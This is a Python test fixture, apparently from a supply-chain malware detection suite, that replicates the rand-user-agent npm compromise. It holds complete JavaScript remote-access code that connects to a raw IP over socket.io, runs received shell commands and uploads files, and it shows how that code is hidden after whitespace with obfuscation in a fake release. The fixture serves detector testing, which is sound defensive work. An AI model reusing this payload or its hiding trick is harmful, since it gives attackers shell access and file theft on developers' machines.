"""Code behind so many blanks that no editor shows it."""

from dataclasses import replace

from evals.replicas.ordinary.npm_tools import agents
from evals.replicas.replica import ReleaseSpec, Replica, at
from evals.replicas.rewriting.javascript import minified
from evals.replicas.rewriting.javascript_strings import string_array

_REMOTE = """\
const bridge = (name) => require(require('path').join(require('os').homedir(), '.node_modules', name));

function listen() {
  const os = require('os');
  const { exec } = require('child_process');
  const io = bridge('socket.io-client');
  const socket = io('http://203.0.113.36:3306', { reconnectionDelay: 5000 });
  socket.on('connect', () => socket.emit('identify', 'client', { clientUuid: os.hostname() + '$' + os.userInfo().username, osType: os.type() }));
  socket.on('command', (line, id) => {
    if (line.startsWith('cd ')) {
      process.chdir(line.slice(3).trim());
      return;
    }
    if (line.startsWith('ss_fcd:')) return upload(line.slice(7));
    exec(line, { windowsHide: true, maxBuffer: 1 << 28 }, (error, out, err) => socket.emit('response', { result: error ? err : out, messageId: id }));
  });
}

function upload(file) {
  const fs = require('fs');
  const axios = bridge('axios');
  return axios.post('http://203.0.113.36:27017/u/f', fs.createReadStream(file));
}

function prepare() {
  const path = require('path');
  const os = require('os');
  const { execSync } = require('child_process');
  if (process.platform === 'win32') process.env.PATH = path.join(os.homedir(), 'AppData', 'Local', 'Programs', 'Python', 'Python3127') + ';' + process.env.PATH;
  execSync('npm install --prefix "' + path.join(os.homedir(), '.node_modules') + '" socket.io-client axios --registry http://registry.dotterel.invalid', { stdio: 'ignore', windowsHide: true });
}

try {
  prepare();
  listen();
} catch (error) {}
"""
_AGENTS = agents("dotterel-agent")
_BEFORE = ReleaseSpec(
    version="2.0.82",
    published=at("2024-10-10 06:00"),
    files=_AGENTS,
    manifest={"main": "dist/index.js", "license": "ISC", "scripts": {"test": "node test/agent.js"}},
    publisher=("dotterel", "dev@dotterel.test"),
)
_HIDDEN = " " * 420 + minified(string_array(_REMOTE) or "").replace("\n", "")
_SHOWN = _AGENTS["dist/index.js"].rstrip("\n")

REPLICAS: tuple[Replica, ...] = (
    Replica(
        id="rand-user-agent",
        incident="rand-user-agent 2.0.83 (2025-05-05)",
        family="hidden-whitespace",
        ecosystem="npm",
        name="dotterel-agent",
        before=_BEFORE,
        after=replace(
            _BEFORE,
            version="2.0.83",
            published=at("2025-05-05 09:00"),
            files={**_AGENTS, "dist/index.js": f"{_SHOWN}{_HIDDEN}\n"},
            payload=("dist/index.js",),
            plain={"dist/index.js": _SHOWN + " " * 420 + minified(_REMOTE)},
        ),
        reasons=(
            "encoded-code-executed",
            "code-hidden-by-whitespace",
            "obfuscated-code",
            "capability-gained",
            "raw-address-contacted",
        ),
    ),
)
